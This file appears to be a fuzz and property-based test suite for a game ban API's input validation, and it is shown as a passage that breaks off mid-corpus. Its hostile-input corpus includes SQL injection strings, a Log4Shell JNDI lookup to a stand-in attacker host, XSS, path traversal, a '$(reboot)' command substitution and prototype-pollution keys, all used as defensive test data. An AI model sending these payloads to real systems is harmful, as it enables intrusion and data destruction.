import { fc, test } from '@fast-check/vitest';
import { policyFlags } from '@kernel/policy-flags';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { banKey, devicePartition, partitions } from '../../lib/storage/keys';
import { type FaultInjector, injectFaults } from '../support/faults';
import {
  type ApiResponse,
  banBody,
  isErrorEnvelope,
  type RequestOptions,
  startWithPublisher,
  type TestApi,
} from '../support/fixtures';

/**
 * Bad input, generated from the validation rules (README "Validation") and from a hand-written
 * corpus of hostile requests. Every case must be answered with a 4xx in the error envelope, never
 * a 5xx, and must not reach storage: the only storage call a refused request may cause is the
 * authorizer's key lookup. After each group the server must still answer good requests.
 *
 * The rules are restated here rather than imported, so that a loosened schema fails these tests.
 */

const PUBLISHER = 'pub-fuzz';
const GAME = 'game-fuzz';
const DEVICE_ID = /^[A-Za-z0-9._~:@+=-]{1,128}$/;
const GAME_ID = /^[A-Za-z0-9._~:-]{1,64}$/;
const REASON_CODE = /^[A-Za-z0-9._:-]{1,64}$/;
const IDEMPOTENCY_KEY = /^[\x20-\x7E]{1,255}$/;
const RFC3339_WITH_OFFSET = /^\d{4}-\d{2}-\d{2}[Tt]\d{2}:\d{2}:\d{2}(\.\d{1,9})?([Zz]|[+-]\d{2}:\d{2})$/;
const DIGITS = /^[0-9]{1,16}$/;

let api: TestApi;
let observer: FaultInjector;
let key: string;
let baselineItems: number;
let casesTried = 0;
const statuses = new Map<number, number>();

beforeAll(async () => {
  // Without the background dispatcher: the observer below must see only what requests cause.
  ({ api, key } = await startWithPublisher(PUBLISHER, { events: false }));
  const { dynamo } = await import('../../lib/storage/client');
  // No rules armed: it only records which storage calls each case causes.
  observer = injectFaults(dynamo);
  // The observer must see the API's own calls (it cannot with API_BUNDLES, whose handlers carry their
  // own client): otherwise "reached storage" below would pass without looking.
  expect((await api.request('GET', '/v1/policy', { key })).status).toBe(200);
  expect(observer.calls.map((c) => c.operation)).toContain('GetItem');
  baselineItems = (await api.items()).length;
});
afterAll(async () => {
  const summary = [...statuses.entries()].sort(([a], [b]) => a - b).map(([s, n]) => `${s}×${n}`);
  const all4xx = [...statuses.keys()].every((s) => s >= 400 && s < 500);
  console.log(
    `bad-input: ${casesTried} cases, ${all4xx ? 'all 4xx' : 'NOT all 4xx'} (${summary.join(', ')})`,
  );
  observer?.remove();
  await api?.close();
});

interface Expectation {
  status?: number;
  code?: string;
  /** A field the error details must name. */
  field?: string;
}

/** Sends one bad request and checks the answer and that nothing but the key lookup touched storage. */
const refused = async (method: string, path: string, options: RequestOptions, expected: Expectation = {}) => {
  observer.reset();
  casesTried += 1;
  const res = await api.request(method, path, { key, ...options });
  statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
  expectRefusal(res, expected);
  const reached = observer.calls.filter(
    (c) => !(c.operation === 'GetItem' && c.key?.startsWith(partitions.apiKey)),
  );
  expect(reached, `${method} ${path} reached storage`).toEqual([]);
  return res;
};

const expectRefusal = (res: ApiResponse, expected: Expectation) => {
  expect(res.status, res.text).toBeGreaterThanOrEqual(400);
  expect(res.status, res.text).toBeLessThan(500);
  if (expected.status !== undefined) expect(res.status, res.text).toBe(expected.status);
  expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
  expect(isErrorEnvelope(res.body), res.text).toBe(true);
  expect(res.body.request_id).toBe(res.headers.get('x-request-id'));
  if (expected.code !== undefined) expect(res.body.error.code, res.text).toBe(expected.code);
  if (expected.field !== undefined) {
    expect(
      res.body.error.details?.map((d: { field: string }) => d.field),
      res.text,
    ).toContain(expected.field);
  }
};

/** Good requests still work, and nothing the bad ones sent was stored. */
const expectStillServing = async () => {
  expect((await api.request('GET', '/health')).status).toBe(200);
  expect((await api.request('GET', '/v1/policy', { key })).status).toBe(200);
  expect(await api.items()).toHaveLength(baselineItems);
};

const validBan = banBody({ device_id: 'dev-fuzz' });

/* -------------------------------------------------------------------------------------------- */
/* Generators                                                                                   */

/** No lone surrogates: such strings cannot be sent in a URL or header at all. */
const wellFormed = (s: string) => {
  try {
    encodeURIComponent(s);
    return true;
  } catch {
    return false;
  }
};
const anyString = fc.string({ unit: 'binary', maxLength: 300 });
const violating = (re: RegExp) => anyString.filter((s) => !re.test(s));
/** JSON values that are not strings (null included: required fields refuse it). */
const nonString = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.dictionary(fc.string(), fc.string(), { maxKeys: 3 }),
);
const nonStringNonNull = nonString.filter((v) => v !== null);
const nested = (depth: number) => {
  let value: Record<string, unknown> = {};
  for (let i = 1; i < depth; i++) value = { d: value };
  return value;
};
const farFuture = Date.UTC(2200, 0, 1);
const dateOf = (min: number, max: number) =>
  fc.date({ min: new Date(min), max: new Date(max), noInvalidDate: true });

const badValue: Record<string, fc.Arbitrary<unknown>> = {
  device_id: fc.oneof(violating(DEVICE_ID), nonString),
  ban_type: fc.oneof(
    anyString.filter((s) => s !== 'cheat' && s !== 'social'),
    nonString,
  ),
  scope: fc.oneof(
    anyString.filter((s) => !['game', 'publisher', 'global'].includes(s)),
    nonString,
  ),
  reason_code: fc.oneof(violating(REASON_CODE), nonString),
  expires_at: fc.oneof(
    violating(RFC3339_WITH_OFFSET),
    // A date-time without an offset: ambiguous, refused.
    dateOf(Date.now() + 86_400_000, farFuture).map((d) => d.toISOString().slice(0, -1)),
    dateOf(Date.now() + 86_400_000, farFuture).map((d) => d.toISOString().slice(0, 10)),
    // In the past.
    dateOf(Date.UTC(1970, 0, 1), Date.now() - 60_000).map((d) => d.toISOString()),
    nonStringNonNull,
  ),
  details: fc.oneof(
    fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
    anyString,
    fc.integer(),
    fc.boolean(),
    fc.integer({ min: 33, max: 400 }).map(nested),
    fc.integer({ min: 16 * 1024 + 1, max: 40_000 }).map((n) => ({ blob: 'x'.repeat(n) })),
  ),
  idempotency_key: fc.oneof(violating(IDEMPOTENCY_KEY), nonString),
};
const knownFields = new Set([...Object.keys(badValue)]);

type Mutation = { field: string; body: Record<string, unknown> };
/** Keys the JSON parser refuses wherever they are (`forbidden_key`). */
const forbidden = /"(__proto__|constructor)"/;

const banBodyWithOneBadField: fc.Arbitrary<Mutation> = fc
  .oneof(
    ...Object.entries(badValue).map(([field, arb]) =>
      arb.map((value) => ({ field, body: { ...validBan, [field]: value } })),
    ),
    fc.constantFrom('device_id', 'ban_type', 'scope', 'reason_code').map((field) => ({
      field,
      body: Object.fromEntries(Object.entries(validBan).filter(([k]) => k !== field)),
    })),
    fc
      .tuple(
        fc
          .string({ minLength: 1, maxLength: 40 })
          .filter((k) => !knownFields.has(k) && !forbidden.test(`"${k}"`) && wellFormed(k)),
        // A forbidden key anywhere is refused before any field is named: the corpus covers those.
        fc.jsonValue({ maxDepth: 2 }).filter((v) => !forbidden.test(JSON.stringify(v))),
      )
      .map(([field, value]) => ({ field, body: { ...validBan, [field]: value } })),
  )
  // A forbidden key anywhere (fast-check's JSON values include them) is refused before any field
  // is named; the hand-written corpus covers those.
  .filter(({ body }) => !forbidden.test(JSON.stringify(body)));

/** Header values a client can send (latin-1, no CR/LF/NUL) that survive the header parser's trimming. */
const headerChars = fc.constantFrom(
  ...Array.from({ length: 0x7f - 0x20 }, (_, i) => String.fromCharCode(0x20 + i)),
  '\t',
  'é',
  'ÿ',
  '\u00a0',
);
const headerValue = fc.string({ unit: headerChars, maxLength: 100 }).filter((s) => s === s.trim());

const gameRoutes = [
  ['POST', '/v1/bans', { body: validBan }],
  ['GET', '/v1/device/dev-fuzz/bans/social', {}],
  ['GET', '/v1/device/dev-fuzz/bans', {}],
  ['GET', '/v1/device/dev-fuzz/enforcement', {}],
  ['POST', '/v1/enforcement/batch', { body: { device_ids: ['dev-fuzz'] } }],
] as const;
const authRoutes = [
  ['GET', '/v1/policy', {}],
  ['PUT', '/v1/policy', { body: {} }],
  ...gameRoutes.map(([m, p, o]) => [m, p, { ...o, game: GAME }] as const),
] as const;
const bodyRoutes = [
  ['POST', '/v1/bans', { game: GAME }],
  ['PUT', '/v1/policy', {}],
  ['POST', '/v1/device/dev-fuzz/bans/1/revoke', { game: GAME }],
  ['POST', '/v1/enforcement/batch', { game: GAME }],
] as const;
const deviceRoutes = [
  ['GET', (d: string) => `/v1/device/${d}/bans/social`, {}],
  ['GET', (d: string) => `/v1/device/${d}/bans/cheat`, {}],
  ['GET', (d: string) => `/v1/device/${d}/bans`, {}],
  ['GET', (d: string) => `/v1/device/${d}/enforcement`, {}],
  ['POST', (d: string) => `/v1/device/${d}/bans/1/revoke`, { body: { reason_code: 'appeal' } }],
] as const;

const badStatus = anyString.filter((s) => !['active', 'inactive', 'all'].includes(s));
const badNumber = (max: number) =>
  fc.oneof(
    fc.integer({ min: -1_000_000, max: 0 }).map(String),
    // Past the maximum: for the cursor (max 2^53-1), more digits than the 16 allowed.
    max < 1e15
      ? fc.integer({ min: max + 1, max: max + 1_000_000_000 }).map(String)
      : fc.bigInt({ min: 10n ** 16n, max: 10n ** 30n }).map(String),
    fc.constantFrom('1e3', '0x10', '5.0', ' 5', '+5', '', '١٢', '99999999999999999'),
    anyString.filter((s) => !DIGITS.test(s)),
  );
const queryParamName = fc
  .string({ minLength: 1, maxLength: 30 })
  .filter((n) => wellFormed(n) && !['status', 'limit', 'cursor', 'type'].includes(n));
/** One listing query with exactly one bad parameter, and the field the error must name. */
const badListingQuery = fc.oneof(
  fc.tuple(queryParamName, fc.string({ maxLength: 20 })).map(([n, v]) => ({ field: n, params: [[n, v]] })),
  badStatus.filter((s) => wellFormed(s)).map((v) => ({ field: 'status', params: [['status', v]] })),
  badNumber(200)
    .filter((s) => wellFormed(s))
    .map((v) => ({ field: 'limit', params: [['limit', v]] })),
  badNumber(Number.MAX_SAFE_INTEGER)
    .filter((s) => wellFormed(s) && !(DIGITS.test(s) && Number(s) > 0))
    .map((v) => ({ field: 'cursor', params: [['cursor', v]] })),
  fc
    .constantFrom<[string, string, string]>(
      ['status', 'all', 'active'],
      ['limit', '5', '5'],
      ['cursor', '3', '9'],
    )
    .map(([n, a, b]) => ({
      field: n,
      params: [
        [n, a],
        [n, b],
      ],
    })),
);

/* -------------------------------------------------------------------------------------------- */
/* Properties                                                                                   */

describe('generated bad input', () => {
  test.prop([banBodyWithOneBadField], { numRuns: 250 })(
    'refuses a ban body with one bad, missing or unknown field, naming it',
    async ({ field, body }) => {
      const res = await refused('POST', '/v1/bans', { game: GAME, body });
      // Very large details may exceed the 64 KiB body limit first: a 413 is just as right.
      if (res.status !== 413) expectRefusal(res, { status: 400, field });
    },
  );

  test.prop([fc.oneof(fc.array(fc.jsonValue({ maxDepth: 2 })), fc.jsonValue({ maxDepth: 0 }))], {
    numRuns: 40,
  })('refuses a ban body that is not a JSON object', async (value) => {
    await refused(
      'POST',
      '/v1/bans',
      { game: GAME, rawBody: JSON.stringify(value), headers: json },
      {
        status: 400,
      },
    );
  });

  test.prop(
    [
      fc.constantFrom(...bodyRoutes),
      fc.record({ device_id: fc.string(), reason_code: fc.string(), enforce_game: fc.boolean() }),
      fc.nat(),
    ],
    { numRuns: 80 },
  )('refuses a truncated JSON body with invalid_json', async ([method, path, options], value, cut) => {
    const text = JSON.stringify(value);
    await refused(
      method,
      path,
      { ...options, rawBody: text.slice(0, cut % text.length), headers: json },
      { status: 400, code: 'invalid_json' },
    );
  });

  const policyBody = fc
    .oneof(
      fc.dictionary(
        fc.oneof(fc.constantFrom(...policyFlags), fc.string({ maxLength: 20 })),
        fc.jsonValue({ maxDepth: 1 }),
        {
          minKeys: 1,
          maxKeys: 4,
        },
      ),
      fc.array(fc.boolean(), { maxLength: 3 }),
      fc.jsonValue({ maxDepth: 0 }),
    )
    .filter(
      (v) =>
        !(
          v !== null &&
          typeof v === 'object' &&
          !Array.isArray(v) &&
          Object.entries(v).every(
            ([k, b]) => (policyFlags as readonly string[]).includes(k) && typeof b === 'boolean',
          )
        ),
    );
  test.prop([policyBody], { numRuns: 120 })(
    'refuses a policy update that is not an object of known boolean flags, and leaves the policy as it was',
    async (body) => {
      await refused('PUT', '/v1/policy', { rawBody: JSON.stringify(body), headers: json }, { status: 400 });
    },
  );

  test.prop([fc.constantFrom(...gameRoutes), headerValue.filter((s) => !GAME_ID.test(s))], { numRuns: 80 })(
    'refuses a bad X-Game-Id header, naming it',
    async ([method, path, options], game) => {
      await refused(
        method,
        path,
        { ...options, game },
        { status: 400, code: 'invalid_request', field: 'X-Game-Id' },
      );
    },
  );

  test.prop([fc.constantFrom(...authRoutes), headerValue], { numRuns: 80 })(
    'refuses a malformed or unknown Authorization header with 401 and WWW-Authenticate',
    async ([method, path, options], authorization) => {
      const res = await refused(
        method,
        path,
        { ...options, key: undefined, headers: { Authorization: authorization } },
        { status: 401, code: 'unauthorized' },
      );
      expect(res.headers.get('www-authenticate')).toBe('Bearer');
    },
  );

  const nonJsonType = fc.oneof(
    fc.constantFrom(
      'text/plain',
      'text/json',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=xyz',
      'application/xml',
      'application/jsonp',
      'application/json5',
      'application/octet-stream',
      'json',
      '*/*',
    ),
    headerValue.filter((s) => s.length > 0 && !/^application\/([a-z0-9.+-]+\+)?json\s*(;|$)/i.test(s)),
  );
  test.prop([fc.constantFrom(...bodyRoutes), nonJsonType], { numRuns: 50 })(
    'refuses a body sent with a content type other than JSON with 415',
    async ([method, path, options], contentType) => {
      await refused(
        method,
        path,
        { ...options, rawBody: JSON.stringify(validBan), headers: { 'Content-Type': contentType } },
        { status: 415, code: 'unsupported_media_type' },
      );
    },
  );

  test.prop(
    [fc.constantFrom(...deviceRoutes), violating(DEVICE_ID).filter((s) => s.length > 0 && wellFormed(s))],
    { numRuns: 120 },
  )('refuses a bad device_id in the path, naming it', async ([method, path, options], device) => {
    await refused(
      method,
      path(encodeURIComponent(device)),
      { ...options, game: GAME },
      {
        status: 400,
        code: 'invalid_request',
        field: 'device_id',
      },
    );
  });

  test.prop([badListingQuery, fc.constantFrom('social', 'cheat', '')], { numRuns: 120 })(
    'refuses a listing query with an unknown, bad or repeated parameter, naming it',
    async ({ field, params }, type) => {
      const query = new URLSearchParams(params as [string, string][]).toString();
      const path = `/v1/device/dev-fuzz/bans${type ? `/${type}` : ''}?${query}`;
      await refused('GET', path, { game: GAME }, { status: 400, code: 'invalid_request', field });
    },
  );

  test.prop([fc.tuple(queryParamName, fc.string({ maxLength: 10 }))], { numRuns: 30 })(
    'refuses any query parameter on routes that take none',
    async ([name, value]) => {
      const query = new URLSearchParams([[name, value]]).toString();
      await refused('GET', `/v1/policy?${query}`, {}, { status: 400, field: name });
      await refused(
        'GET',
        `/v1/device/dev-fuzz/enforcement?${query}`,
        { game: GAME },
        { status: 400, field: name },
      );
    },
  );

  it('still serves good requests and stored nothing', expectStillServing);
});

/* -------------------------------------------------------------------------------------------- */
/* Hand-written hostile cases                                                                   */

const json = { 'Content-Type': 'application/json' };
const ban = (overrides: Record<string, unknown>) => JSON.stringify({ ...validBan, ...overrides });
/** A ban body with `extra` spliced in as more members of the top-level object. */
const banWith = (extra: string) => `${ban({}).slice(0, -1)},${extra}}`;
/** The JSON text with `marker` replaced by raw bytes (which may be invalid UTF-8). */
const withBytes = (text: string, marker: string, bytes: number[]) => {
  const [before, after] = text.split(marker) as [string, string];
  return Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)]);
};
const nest = (open: string, inner: string, close: string, depth: number) =>
  `${open.repeat(depth)}${inner}${close.repeat(depth)}`;

type Case = [name: string, method: string, path: string, options: RequestOptions, expected: Expectation];
const is = (status: number, field?: string, code?: string): Expectation => ({ status, field, code });
const createCase = (
  name: string,
  body: string | Buffer,
  expected: Expectation,
  extra: RequestOptions = {},
): Case => [name, 'POST', '/v1/bans', { game: GAME, rawBody: body, headers: json, ...extra }, expected];
const policyCase = (name: string, body: string | Buffer, expected: Expectation): Case => [
  name,
  'PUT',
  '/v1/policy',
  { rawBody: body, headers: json },
  expected,
];
const batchCase = (name: string, body: string, expected: Expectation): Case => [
  name,
  'POST',
  '/v1/enforcement/batch',
  { game: GAME, rawBody: body, headers: json },
  expected,
];
const revokeCase = (
  name: string,
  device: string,
  banId: string,
  body: string,
  expected: Expectation,
): Case => [
  name,
  'POST',
  `/v1/device/${device}/bans/${banId}/revoke`,
  { game: GAME, rawBody: body, headers: json },
  expected,
];
const getCase = (
  name: string,
  path: string,
  expected: Expectation,
  options: RequestOptions = { game: GAME },
): Case => [name, 'GET', path, options, expected];
const social = (query: string) => `/v1/device/dev-fuzz/bans/social?${query}`;

const hostileStrings = [
  "' OR 1=1 --",
  '"; DROP TABLE bans; --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack.
  '${jndi:ldap://attacker/a}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '{{7*7}}',
  '$(reboot)',
  devicePartition('other'),
  `x#${banKey('x', 1).sk}`,
  '%00',
  'a b',
];

const oddCharacters = [
  ['an emoji', 'dev-😀'],
  ['a right-to-left override', 'dev\u202Eevil'],
  ['a zero-width space', 'dev\u200Bx'],
  ['a combining accent', 'de\u0301v'],
  ['full-width letters', 'ｄｅｖ'],
  ['a NUL', 'dev\u0000x'],
  ['a line separator', 'dev\u2028x'],
  ['a lone surrogate', 'dev\uD800'],
  ['a newline', 'dev\nx'],
  ['DEL', 'dev\u007F'],
  ['a dotless i', 'devı'],
] as const;

const badDates = [
  ['without an offset', '2099-01-01T00:00:00'],
  ['with milliseconds and no offset', '2099-01-01T00:00:00.000'],
  ['with a space instead of T', '2099-01-01 00:00:00Z'],
  ['as a date only', '2099-01-01'],
  ['in basic format', '20990101T000000Z'],
  ['with month 13', '2099-13-01T00:00:00Z'],
  ['on 29 February of a common year', '2099-02-29T00:00:00Z'],
  ['at hour 24', '2099-01-01T24:00:00Z'],
  ['with an offset of +24:00', '2099-01-01T00:00:00+24:00'],
  ['with an offset without a colon', '2099-01-01T00:00:00+0200'],
  ['with a six-digit year', '+02099-01-01T00:00:00Z'],
  ['in words', 'tomorrow'],
  ['in the past', '2000-01-01T00:00:00Z'],
  ['at the epoch', '1970-01-01T00:00:00Z'],
  ['one second ago', new Date(Date.now() - 1000).toISOString()],
  ['in year zero', '0000-01-01T00:00:00Z'],
] as const;

const badQueries = [
  ['status twice', 'status=all&status=active', 'status'],
  ['limit twice with one value', 'limit=5&limit=5', 'limit'],
  ['cursor twice', 'cursor=5&cursor=6', 'cursor'],
  ['an unknown parameter', 'foo=1', 'foo'],
  ['a parameter in the wrong case', 'Status=all', 'Status'],
  ['an array-style parameter', 'status[]=all', 'status[]'],
  ['a parameter without a value', 'limit', 'limit'],
  ['limit 1e3', 'limit=1e3', 'limit'],
  ['limit 0x10', 'limit=0x10', 'limit'],
  ['limit 5.0', 'limit=5.0', 'limit'],
  ['limit -1', 'limit=-1', 'limit'],
  ['limit 0', 'limit=0', 'limit'],
  ['limit 201', 'limit=201', 'limit'],
  ['limit empty', 'limit=', 'limit'],
  ['cursor 0', 'cursor=0', 'cursor'],
  ['cursor of 17 digits', 'cursor=99999999999999999', 'cursor'],
  ['status ALL', 'status=ALL', 'status'],
  ['status empty', 'status=', 'status'],
  ['an invalid percent-encoding in a name', '%FF=1', '\uFFFD'],
  ['an injection-looking status', "status=active'%20OR%201=1--", 'status'],
] as const;

const KEY_43 = 'A'.repeat(43);
const revokeBody = '{"reason_code":"x"}';

const corpus: Case[] = [
  // Size
  createCase(
    'a body one byte over 64 KiB',
    `{"device_id":"${'d'.repeat(65_536)}"}`,
    is(413, undefined, 'payload_too_large'),
  ),
  createCase(
    'a body of 11 MiB',
    Buffer.alloc(11 * 1024 * 1024, 0x20),
    is(413, undefined, 'payload_too_large'),
  ),
  policyCase('a policy body over 64 KiB', `{"enforce_game":true${' '.repeat(66_000)}}`, is(413)),
  batchCase(
    'a batch body over 64 KiB',
    JSON.stringify({ device_ids: Array(100).fill('d'.repeat(700)) }),
    is(413),
  ),
  // Nesting (JSON.parse copes; the body parser's prototype-key scan or the validator refuses it)
  createCase('30,000 nested arrays as the body', nest('[', '', ']', 30_000), is(400)),
  createCase(
    '10,000 nested objects in details',
    banWith(`"details":${nest('{"a":', '1', '}', 10_000)}`),
    is(400),
  ),
  createCase(
    '10,000 nested arrays in an unknown field',
    banWith(`"x":${nest('[', '', ']', 10_000)}`),
    is(400),
  ),
  policyCase('deep nesting in a policy flag', `{"enforce_game":${nest('[', '', ']', 20_000)}}`, is(400)),
  batchCase('deep nesting in the batch device ids', `{"device_ids":${nest('[', '', ']', 20_000)}}`, is(400)),
  // Unicode and control characters
  ...oddCharacters.map(([what, device]) =>
    createCase(`device_id with ${what}`, ban({ device_id: device }), is(400, 'device_id')),
  ),
  createCase('reason_code with a bell character', ban({ reason_code: 'a\u0007b' }), is(400, 'reason_code')),
  createCase('idempotency_key with a tab', ban({ idempotency_key: 'a\tb' }), is(400, 'idempotency_key')),
  createCase('idempotency_key with non-ASCII', ban({ idempotency_key: 'clé' }), is(400, 'idempotency_key')),
  getCase('a path device_id with an encoded NUL', '/v1/device/dev%00x/bans/social', is(400, 'device_id')),
  getCase(
    'a path device_id with an emoji',
    `/v1/device/${encodeURIComponent('😀')}/bans`,
    is(400, 'device_id'),
  ),
  // Numbers and arrays where strings go
  createCase('device_id a number', ban({ device_id: 12345 }), is(400, 'device_id')),
  createCase(
    'device_id 1e400 (Infinity once parsed)',
    ban({}).replace('"dev-fuzz"', '1e400'),
    is(400, 'device_id'),
  ),
  createCase('device_id an array of one string', ban({ device_id: ['dev-fuzz'] }), is(400, 'device_id')),
  createCase('ban_type an array', ban({ ban_type: ['cheat'] }), is(400, 'ban_type')),
  createCase('scope an object', ban({ scope: { value: 'game' } }), is(400, 'scope')),
  createCase('reason_code a float', ban({ reason_code: 1.5 }), is(400, 'reason_code')),
  createCase('expires_at in epoch seconds', ban({ expires_at: 4_102_444_800 }), is(400, 'expires_at')),
  createCase('details true', ban({ details: true }), is(400, 'details')),
  createCase('a NoSQL operator object as device_id', ban({ device_id: { $gt: '' } }), is(400, 'device_id')),
  policyCase('a policy flag as the string "true"', '{"enforce_game":"true"}', is(400, 'enforce_game')),
  policyCase('a policy flag as 1', '{"enforce_game":1}', is(400, 'enforce_game')),
  policyCase('a policy flag as null', '{"enforce_game":null}', is(400, 'enforce_game')),
  revokeCase('a revoke reason_code as a number', 'd', '1', '{"reason_code":7}', is(400, 'reason_code')),
  batchCase('batch device_ids as a string', '{"device_ids":"dev-fuzz"}', is(400, 'device_ids')),
  batchCase('an empty batch', '{"device_ids":[]}', is(400, 'device_ids')),
  batchCase(
    'a batch of 101 devices',
    JSON.stringify({ device_ids: Array(101).fill('d') }),
    is(400, 'device_ids'),
  ),
  // Prototype keys
  createCase('a top-level __proto__ key', banWith('"__proto__":{"device_id":"x"}'), is(400, '__proto__')),
  createCase(
    'a top-level constructor key',
    banWith('"constructor":{"prototype":{"p":1}}'),
    is(400, 'constructor'),
  ),
  createCase('__proto__ inside details', banWith('"details":{"__proto__":{"polluted":true}}'), is(400)),
  createCase(
    'constructor inside details',
    banWith('"details":{"a":{"constructor":{"prototype":{"p":1}}}}'),
    is(400),
  ),
  policyCase('__proto__ in a policy update', '{"__proto__":{"enforce_game":false}}', is(400)),
  batchCase('__proto__ in a batch', '{"device_ids":["d"],"__proto__":{"x":1}}', is(400)),
  // Names of Object.prototype members, as query parameters and as header names
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty'].flatMap((name) => [
    getCase(`a ${name} query parameter on a listing`, social(`${name}=x`), is(400, name)),
    getCase(`a ${name} query parameter on the policy`, `/v1/policy?${name}=x`, is(400, name), {}),
    getCase(`a header named ${name}`, social('limit=0'), is(400, 'limit'), {
      game: GAME,
      headers: { [name]: 'x' },
    }),
  ]),
  // Query strings
  ...badQueries.map(([what, query, field]) =>
    getCase(`a listing query with ${what}`, social(query), is(400, field)),
  ),
  getCase('type both on the all-bans listing', '/v1/device/d/bans?type=both', is(400, 'type')),
  getCase('type twice on the all-bans listing', '/v1/device/d/bans?type=cheat&type=social', is(400, 'type')),
  getCase('type on the social listing', social('type=cheat'), is(400, 'type')),
  getCase('a publisher_id query on the policy', '/v1/policy?publisher_id=other', is(400, 'publisher_id'), {}),
  // Invalid UTF-8 and other encodings
  createCase(
    'invalid UTF-8 in device_id',
    withBytes(ban({ device_id: 'd@@' }), '@@', [0xff, 0xfe]),
    // Refused as a body that is not UTF-8 at all, before any field is read.
    is(400, undefined, 'invalid_json'),
  ),
  createCase(
    'invalid UTF-8 in idempotency_key',
    withBytes(ban({ idempotency_key: 'k@@' }), '@@', [0x80]),
    is(400),
  ),
  createCase(
    'an overlong "/" in reason_code',
    withBytes(ban({ reason_code: 'a@@' }), '@@', [0xc0, 0xaf]),
    is(400),
  ),
  createCase('invalid UTF-8 outside any string', withBytes(banWith('"x":@@'), '@@', [0xc3, 0x28]), is(400)),
  // Valid JSON once decoded leniently (U+FFFD), so only a strict decoder refuses it; it must not be stored altered.
  createCase(
    'invalid UTF-8 inside details',
    withBytes(ban({ details: { n: 'a@@' } }), '@@', [0xed, 0xa0, 0x80]),
    is(400),
  ),
  createCase(
    'a UTF-16 body',
    Buffer.from(`\ufeff${ban({})}`, 'utf16le'),
    is(400, undefined, 'invalid_json'),
    {
      headers: { 'Content-Type': 'application/json; charset=utf-16' },
    },
  ),
  policyCase('a UTF-8 byte order mark before the JSON', '\ufeff{}', is(400, undefined, 'invalid_json')),
  getCase('invalid UTF-8 in X-Game-Id', social('limit=5'), is(400, 'X-Game-Id'), {
    headers: { 'X-Game-Id': 'g\u00ff' },
  }),
  getCase('an invalid percent-encoding in the path', '/v1/device/dev%E0%A4%A/bans/social', is(400)),
  getCase('a percent-encoded invalid UTF-8 device_id', '/v1/device/dev%FF/bans/social', is(400)),
  // Content types
  createCase(
    'a body without a content type',
    Buffer.from(ban({})),
    is(415, undefined, 'unsupported_media_type'),
    {
      headers: {},
    },
  ),
  ['a policy update without a content type', 'PUT', '/v1/policy', { rawBody: Buffer.from('{}') }, is(415)],
  createCase('a form-encoded ban', 'device_id=d&ban_type=cheat&scope=game&reason_code=r', is(415), {
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
  }),
  createCase('JSON sent as text/plain', ban({}), is(415), { headers: { 'Content-Type': 'text/plain' } }),
  createCase('a content type of application/jsonx', ban({}), is(415), {
    headers: { 'Content-Type': 'application/jsonx' },
  }),
  createCase('an empty body with a JSON content type', '', is(400, undefined, 'invalid_json')),
  policyCase('whitespace as the body', '   ', is(400, undefined, 'invalid_json')),
  policyCase('two JSON documents', '{}{}', is(400, undefined, 'invalid_json')),
  policyCase('JSON with a trailing comma', '{"enforce_game":true,}', is(400, undefined, 'invalid_json')),
  policyCase('JSON with a comment', '{/* x */"enforce_game":true}', is(400, undefined, 'invalid_json')),
  policyCase('single-quoted JSON', "{'enforce_game':true}", is(400, undefined, 'invalid_json')),
  policyCase('NaN in JSON', '{"enforce_game":NaN}', is(400, undefined, 'invalid_json')),
  // Injection-looking strings
  ...hostileStrings.flatMap((hostile) => [
    createCase(`device_id ${JSON.stringify(hostile)}`, ban({ device_id: hostile }), is(400, 'device_id')),
    createCase(
      `reason_code ${JSON.stringify(hostile)}`,
      ban({ reason_code: hostile }),
      is(400, 'reason_code'),
    ),
    getCase(
      `path device_id ${JSON.stringify(hostile)}`,
      `/v1/device/${encodeURIComponent(hostile)}/bans`,
      is(400, 'device_id'),
    ),
  ]),
  createCase('an X-Game-Id with an injection', ban({}), is(400, 'X-Game-Id'), { game: "g' OR '1'='1" }),
  // '#' and '/' inside ids
  createCase('device_id with #', ban({ device_id: 'a#b' }), is(400, 'device_id')),
  createCase('device_id with /', ban({ device_id: 'a/b' }), is(400, 'device_id')),
  createCase('an X-Game-Id with #', ban({}), is(400, 'X-Game-Id'), { game: 'g#1' }),
  getCase('an X-Game-Id with /', social('limit=5'), is(400, 'X-Game-Id'), { game: 'g/1' }),
  getCase('a path device_id with an encoded #', '/v1/device/a%23b/bans/social', is(400, 'device_id')),
  getCase('a path device_id with an encoded /', '/v1/device/a%2Fb/bans/social', is(400, 'device_id')),
  revokeCase('an encoded / in the device_id of a revoke', 'a%2Fb', '1', revokeBody, is(400, 'device_id')),
  revokeCase('a revoke ban_id of 0', 'd', '0', revokeBody, is(400, 'ban_id')),
  revokeCase('a revoke ban_id of -1', 'd', '-1', revokeBody, is(400, 'ban_id')),
  revokeCase('a revoke ban_id of 1e3', 'd', '1e3', revokeBody, is(400, 'ban_id')),
  revokeCase('a revoke ban_id with an encoded #', 'd', '1%23BAN', revokeBody, is(400, 'ban_id')),
  revokeCase('a revoke ban_id of 17 digits', 'd', '12345678901234567', revokeBody, is(400, 'ban_id')),
  // Dates
  ...badDates.map(([what, value]) =>
    createCase(`expires_at ${what}`, ban({ expires_at: value }), is(400, 'expires_at')),
  ),
  // Headers
  getCase('two X-Game-Id values', social('limit=5'), is(400, 'X-Game-Id'), {
    headers: { 'X-Game-Id': 'g1, g2' },
  }),
  getCase('an X-Game-Id of 65 characters', social('limit=5'), is(400, 'X-Game-Id'), { game: 'g'.repeat(65) }),
  createCase('a missing X-Game-Id', ban({}), is(400, 'X-Game-Id'), { game: undefined }),
  getCase('Bearer with two spaces', '/v1/policy', is(401), {
    key: undefined,
    headers: { Authorization: 'Bearer  k' },
  }),
  getCase('Basic authentication', '/v1/policy', is(401), {
    key: undefined,
    headers: { Authorization: 'Basic YTpi' },
  }),
  getCase('a key and a trailing word', '/v1/policy', is(401), {
    key: undefined,
    headers: { Authorization: `Bearer bsk_${KEY_43} extra` },
  }),
